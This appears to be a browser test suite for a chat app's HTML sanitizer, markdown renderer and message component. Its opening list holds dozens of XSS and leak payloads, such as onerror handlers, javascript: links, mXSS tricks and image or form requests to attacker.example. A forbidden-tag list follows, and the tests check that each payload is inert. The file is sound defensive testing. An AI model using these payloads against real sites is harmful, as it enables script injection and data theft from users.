import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { chromiumAvailable, launchChromium } from "./chat-page.ts";

/** The page's origin; every request elsewhere is recorded (and refused) as a leak. */
const origin = "https://chat.test";

type Harness = {
  harness: {
    markdownToHtml(markdown: string, origin: string): string;
    renderMarkdown(markdown: string): string;
    sanitizeHtml(html: string): string;
  };
  pwned?: unknown;
};

/**
 * Raw HTML that tries to run script, load from elsewhere or escape the allow-list, as a model
 * could write it if the markdown layer ever let HTML through. The page has no CSP, so only the
 * sanitizer stands between each of these and a script run or a request.
 */
const hostileHtml: Array<[string, string]> = [
  ["a script element", "<script>window.pwned = 1</script>"],
  ["an image with onerror", '<img src=x onerror="window.pwned = 2">'],
  ["a remote image", '<img src="https://attacker.example/leak.png?secret=1">'],
  ["a protocol-relative image", '<img src="//attacker.example/leak.png">'],
  ["an image srcset", '<img src="/ok.png" srcset="https://attacker.example/a.png 2x">'],
  ["an SVG data image", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ["a javascript: link", '<a href="javascript:window.pwned=3">click</a>'],
  ["an entity-encoded javascript: link", '<a href="&#106;avascript:window.pwned=4">click</a>'],
  ["a javascript: link with control characters", '<a href="\tjava\nscript:window.pwned=5">click</a>'],
  ["a data: link", '<a href="data:text/html,<script>alert(1)</script>">click</a>'],
  ["a link that keeps its opener", '<a href="https://example.com" target="_self" rel="opener">ok</a>'],
  ["an iframe", '<iframe src="https://attacker.example/" onload="window.pwned=6"></iframe>'],
  ["an srcdoc iframe", '<iframe srcdoc="<script>parent.pwned=7</script>"></iframe>'],
  ["an SVG with onload", '<svg onload="window.pwned=8"><circle r="4"></circle></svg>'],
  ["an SVG script", "<svg><script>window.pwned=9</script></svg>"],
  [
    "an SVG animate href",
    '<svg><a><animate attributeName="href" to="javascript:window.pwned=10"/><text y="20">x</text></a></svg>',
  ],
  ["MathML mXSS", '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=11">'],
  ["a noscript mXSS", "<noscript><p title=\"</noscript><img src=x onerror='window.pwned=12'>\">"],
  ["a style element", "<style>body{background:url(https://attacker.example/bg.png)}</style>"],
  ["a style attribute", '<div style="background:url(https://attacker.example/bg.png)">x</div>'],
  ["a details ontoggle", '<details open ontoggle="window.pwned=13"><summary>x</summary></details>'],
  ["a form with a remote action", '<form action="https://attacker.example"><button>go</button></form>'],
  ["a button formaction", '<button formaction="javascript:window.pwned=14">x</button>'],
  ["an image input", '<input type="image" src="https://attacker.example/i.png">'],
  ["a video poster", '<video poster="https://attacker.example/p.png"></video>'],
  ["an object", '<object data="https://attacker.example/x.swf"></object>'],
  ["an embed", '<embed src="https://attacker.example/x.swf">'],
  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.example">'],
  ["a base element", '<base href="https://attacker.example/">'],
  ["a link element", '<link rel="stylesheet" href="https://attacker.example/x.css">'],
  ["DOM clobbering", '<img name="harness" id="harness"><form id="location"></form>'],
  ["a custom element", '<chat-message onclick="window.pwned=15"></chat-message>'],
];

describe.skipIf(!chromiumAvailable)("the markdown renderer and <chat-message> in Chromium", () => {
  let browser: Browser;
  let page: Page;
  let bundle: string;
  const leaks: string[] = [];

  beforeAll(async () => {
    const built = await Bun.build({
      entrypoints: [join(import.meta.dir, "component-harness.ts")],
      target: "browser",
      format: "esm",
      define: { "process.env.NODE_ENV": '"production"' },
    });
    if (!built.success) throw new Error(built.logs.join("\n"));
    bundle = await (built.outputs[0] as Blob).text();
    const stylesheet = await Bun.file(join(import.meta.dir, "../../frontend/src/app.css")).text();
    browser = await launchChromium();
    page = await browser.newPage();
    await page.route("**/*", (route) => {
      const url = route.request().url();
      if (url === `${origin}/`) {
        return route.fulfill({
          contentType: "text/html",
          body: '<!doctype html><link rel="stylesheet" href="/app.css"><script type="module" src="/harness.js"></script><main id="root"></main>',
        });
      }
      if (url === `${origin}/harness.js`)
        return route.fulfill({ contentType: "text/javascript", body: bundle });
      if (url === `${origin}/app.css`) return route.fulfill({ contentType: "text/css", body: stylesheet });
      if (!url.startsWith(origin)) leaks.push(url);
      return route.fulfill({ status: 404, body: "" });
    });
    page.on("dialog", (dialog) => {
      leaks.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.goto(`${origin}/`);
    await page.waitForFunction(() => "harness" in window && customElements.get("chat-message") !== undefined);
  });

  afterAll(async () => {
    await browser?.close();
  });

  /** Puts sanitized HTML into the live page, lets it load and run, and reports what it became. */
  function renderLive(html: string, kind: "raw" | "markdown") {
    leaks.length = 0;
    return page.evaluate(
      async ([input, how]) => {
        delete (window as unknown as Harness).pwned;
        const { harness } = window as unknown as Harness;
        const output =
          how === "raw" ? harness.sanitizeHtml(input as string) : harness.renderMarkdown(input as string);
        const root = document.getElementById("root") as HTMLElement;
        root.innerHTML = output;
        for (const element of root.querySelectorAll<HTMLElement>("a, button, summary")) element.click();
        await new Promise((resolve) => setTimeout(resolve, 50));
        const elements = [...root.querySelectorAll("*")];
        return {
          output,
          pwned: (window as unknown as Harness).pwned,
          tags: [...new Set(elements.map((element) => element.tagName.toLowerCase()))],
          attributes: [
            ...new Set(
              elements.flatMap((element) => [...element.attributes].map((attribute) => attribute.name)),
            ),
          ],
          links: [...root.querySelectorAll("a[href]")].map((link) => [
            link.getAttribute("href"),
            link.getAttribute("rel"),
            link.getAttribute("target"),
          ]),
          images: [...root.querySelectorAll("img")].map((image) => image.getAttribute("src")),
          harnessIntact: typeof (window as unknown as Harness).harness?.sanitizeHtml === "function",
        };
      },
      [html, kind] as const,
    );
  }

  const forbiddenTags = [
    "script",
    "iframe",
    "svg",
    "mglyph",
    "style",
    "form",
    "object",
    "embed",
    "meta",
    "base",
    "link",
    "video",
    "noscript",
    "chat-message",
    "details",
    "animate",
  ];

  test.each(hostileHtml)("sanitizeHtml: %s is inert", async (_name, html) => {
    const result = await renderLive(html, "raw");
    expect(result.pwned).toBeUndefined();
    expect(result.tags.filter((tag) => forbiddenTags.includes(tag))).toEqual([]);
    expect(
      result.attributes.filter((name) => /^on|^style$|^srcset$|^srcdoc$|^formaction$|^id$|^name$/.test(name)),
    ).toEqual([]);
    for (const [href, rel, target] of result.links) {
      expect(href).toMatch(/^(https?:|mailto:)/);
      expect(rel).toBe("noopener noreferrer");
      expect(target).toBe("_blank");
    }
    for (const src of result.images) expect(src).toStartWith(`${origin}/`);
    expect(result.harnessIntact).toBe(true);
    expect(leaks).toEqual([]);
  });

  test("sanitizeHtml turns a remote image into a link to it, and keeps what markdown produces", async () => {
    const remote = await renderLive('<img src="https://attacker.example/a.png" alt="chart">', "raw");
    expect(remote.links).toEqual([["https://attacker.example/a.png", "noopener noreferrer", "_blank"]]);
    expect(remote.output).toContain("Image: chart");
    const local = await renderLive('<img src="/logo.png" alt="logo">', "raw");
    expect(local.images).toEqual([`${origin}/logo.png`]);
    expect(leaks).toEqual([]);
  });

  test.each([
    ["a script in the text", "Hi <script>window.pwned = 1</script> there"],
    ["an onerror image", '<img src=x onerror="window.pwned = 2">'],
    ["a javascript: link", "[click](javascript:window.pwned=3)"],
    ["a remote image", "![leak](https://attacker.example/leak.png?secret=1)"],
    ["an iframe", '<iframe src="https://attacker.example"></iframe>'],
    ["an SVG trick", '<svg><animate onbegin="window.pwned=4" attributeName="x"/></svg>'],
    ["an event handler", '<b onmouseover="window.pwned=5">x</b>'],
  ])("renderMarkdown: %s is inert", async (_name, markdown) => {
    const result = await renderLive(markdown, "markdown");
    expect(result.pwned).toBeUndefined();
    expect(result.tags.filter((tag) => forbiddenTags.includes(tag))).toEqual([]);
    expect(result.attributes.filter((name) => name.startsWith("on"))).toEqual([]);
    expect(result.images).toEqual([]);
    expect(leaks).toEqual([]);
  });

  test("renderMarkdown keeps ordinary markdown and code blocks with their language and copy button", async () => {
    const result = await renderLive(
      "## Steps\n\n1. **Install** it\n2. Run `bun test`\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n> Note\n\n[Docs](https://example.com/docs)\n\n```python\ndef f(x):\n    return x < 2\n```\n",
      "markdown",
    );
    expect(result.tags).toEqual(
      expect.arrayContaining([
        "h2",
        "ol",
        "li",
        "strong",
        "code",
        "table",
        "td",
        "blockquote",
        "a",
        "div",
        "pre",
        "span",
        "button",
      ]),
    );
    expect(result.links).toEqual([["https://example.com/docs", "noopener noreferrer", "_blank"]]);
    const code = await page.evaluate(() => ({
      language: document.querySelector("#root .code-language")?.textContent,
      text: document.querySelector("#root pre code")?.textContent,
      highlighted: document.querySelectorAll("#root pre code [class^='hljs-']").length,
      copy: document.querySelector("#root button[data-code-copy]")?.getAttribute("type"),
    }));
    expect(code).toEqual({
      language: "python",
      text: "def f(x):\n    return x < 2",
      highlighted: expect.any(Number),
      copy: "button",
    });
    expect(code.highlighted).toBeGreaterThan(1);
  });

  test("formulas render as MathML inside <chat-message>, laid out under the app's strict CSP", async () => {
    const strict = await browser.newPage();
    try {
      await strict.route("**/*", (route) => {
        const url = route.request().url();
        if (url === `${origin}/`) {
          return route.fulfill({
            contentType: "text/html",
            headers: {
              "content-security-policy":
                "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'",
            },
            body: '<!doctype html><script type="module" src="/harness.js"></script><main id="root"></main>',
          });
        }
        if (url === `${origin}/harness.js`)
          return route.fulfill({ contentType: "text/javascript", body: bundle });
        return route.fulfill({ status: 404, body: "" });
      });
      await strict.addInitScript(() => {
        const violations: string[] = [];
        Object.assign(window, { violations });
        document.addEventListener("securitypolicyviolation", (event) =>
          violations.push(
            `${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}:${event.columnNumber} ${event.sample}`,
          ),
        );
      });
      await strict.goto(`${origin}/`);
      await strict.waitForFunction(() => customElements.get("chat-message") !== undefined);
      const shown = await strict.evaluate(async () => {
        const element = document.createElement("chat-message") as unknown as HTMLElement & {
          message: unknown;
          updateComplete: Promise<void>;
        };
        element.message = {
          id: "a",
          chatId: "c",
          role: "assistant",
          status: "complete",
          createdAt: new Date().toISOString(),
          lastSeq: -1,
          content: "The area is $\\pi r^2$, and\n\n$$\n\\frac{a+b}{2} \\ge \\sqrt{ab}\n$$\n",
        };
        (document.getElementById("root") as HTMLElement).append(element);
        await element.updateComplete;
        const shadow = element.shadowRoot as ShadowRoot;
        // The first formula shows its source while the math renderer loads, then the answer renders again.
        const pendingAtFirst = shadow.querySelectorAll(".math-pending").length;
        for (let waited = 0; shadow.querySelectorAll("math").length < 2 && waited < 5_000; waited += 20) {
          await new Promise((resolve) => setTimeout(resolve, 20));
        }
        const formulas = [...shadow.querySelectorAll("math")];
        const line = shadow.querySelector("p")?.getBoundingClientRect().height ?? 0;
        return {
          formulas: formulas.map((formula) => ({
            namespace: formula.namespaceURI,
            display: formula.getAttribute("display"),
            height: formula.getBoundingClientRect().height,
            width: formula.getBoundingClientRect().width,
          })),
          pendingAtFirst,
          pendingNow: shadow.querySelectorAll(".math-pending").length,
          fractions: shadow.querySelectorAll("mfrac").length,
          roots: shadow.querySelectorAll("msqrt").length,
          text: shadow.querySelector(".markdown")?.textContent ?? "",
          line,
          violations: (window as unknown as { violations: string[] }).violations,
        };
      });
      expect(shown.pendingAtFirst).toBe(2);
      expect(shown.pendingNow).toBe(0);
      expect(shown.formulas).toHaveLength(2);
      for (const formula of shown.formulas) {
        expect(formula.namespace).toBe("http://www.w3.org/1998/Math/MathML");
        expect(formula.width).toBeGreaterThan(0);
      }
      expect(shown.formulas.map((formula) => formula.display)).toEqual([null, "block"]);
      expect(shown.fractions).toBe(1);
      expect(shown.roots).toBe(1);
      // A stacked fraction is taller than a line of text.
      expect(shown.formulas[1]?.height ?? 0).toBeGreaterThan(shown.line);
      expect(shown.text).not.toContain("$");
      expect(shown.violations).toEqual([]);
      await strict.screenshot({ path: join(import.meta.dir, "../../docs/screenshots/math.png") });
    } finally {
      await strict.close();
    }
  });

  /** Mounts a <chat-message> for `message` and answers what it shows. */
  function mountMessage(message: Record<string, unknown>) {
    return page.evaluate(async (value) => {
      const root = document.getElementById("root") as HTMLElement;
      root.replaceChildren();
      const element = document.createElement("chat-message") as unknown as HTMLElement & {
        message: unknown;
        updateComplete: Promise<void>;
      };
      element.message = { chatId: "c", createdAt: new Date().toISOString(), lastSeq: -1, ...value };
      root.append(element);
      await element.updateComplete;
      const shadow = element.shadowRoot as ShadowRoot;
      const answer = shadow.querySelector(".answer, .bubble") as HTMLElement;
      const last = shadow.querySelector(".markdown > :last-child");
      return {
        typing: shadow.querySelector(".typing[role=status]") !== null,
        streaming: shadow.querySelector(".markdown.streaming") !== null,
        caretWidth: last ? getComputedStyle(last, "::after").width : "none",
        busy: shadow.querySelector(".answer")?.getAttribute("aria-busy") ?? null,
        height: answer.getBoundingClientRect().height,
        text: answer.textContent?.replace(/\s+/g, " ").trim(),
        html: answer.innerHTML.includes("<b>"),
        error: shadow.querySelector(".error[role=alert]")?.textContent?.replace(/\s+/g, " ").trim() ?? null,
        meta: shadow.querySelector(".meta")?.textContent?.replace(/\s+/g, " ").trim(),
      };
    }, message);
  }

  test("<chat-message>: typing indicator, then a caret while streaming, with no jump in height; none once done", async () => {
    const waiting = await mountMessage({ id: "a", role: "assistant", content: "", status: "streaming" });
    expect(waiting).toMatchObject({ typing: true, streaming: false, busy: "true" });
    const first = await mountMessage({ id: "a", role: "assistant", content: "Hello", status: "streaming" });
    expect(first).toMatchObject({ typing: false, streaming: true, busy: "true", text: "Hello" });
    expect(first.caretWidth).not.toBe("auto");
    expect(Math.abs(first.height - waiting.height)).toBeLessThanOrEqual(1);
    const done = await mountMessage({
      id: "a",
      role: "assistant",
      content: "Hello",
      status: "complete",
      finishReason: "cancelled",
      model: "demo",
    });
    expect(done).toMatchObject({ typing: false, streaming: false, busy: "false" });
    expect(done.caretWidth).toBe("auto");
    expect(Math.abs(done.height - first.height)).toBeLessThanOrEqual(1);
    expect(done.meta).toContain("Stopped");
  });

  test("<chat-message>: the user's text is shown as typed; a failure offers a retry", async () => {
    const user = await mountMessage({
      id: "u",
      role: "user",
      content: "<b>not bold</b>\n  kept",
      status: "complete",
    });
    expect(user.html).toBe(false);
    expect(user.text).toBe("<b>not bold</b> kept");
    const failed = await mountMessage({
      id: "u2",
      role: "user",
      content: "Hi",
      status: "failed",
      error: { code: "NETWORK_FAILED", message: "Cannot reach the server.", retryable: true },
    });
    expect(failed.error).toBe("Not sent: Cannot reach the server. Retry");
    const retried = await page.evaluate(async () => {
      const element = document.querySelector("#root chat-message") as HTMLElement;
      const detail = new Promise((resolve) =>
        element.addEventListener("message-retry", (event) => resolve((event as CustomEvent).detail)),
      );
      (element.shadowRoot as ShadowRoot).querySelector<HTMLButtonElement>(".error button")?.click();
      return detail;
    });
    expect(retried).toEqual({ messageId: "u2" });
  });
});
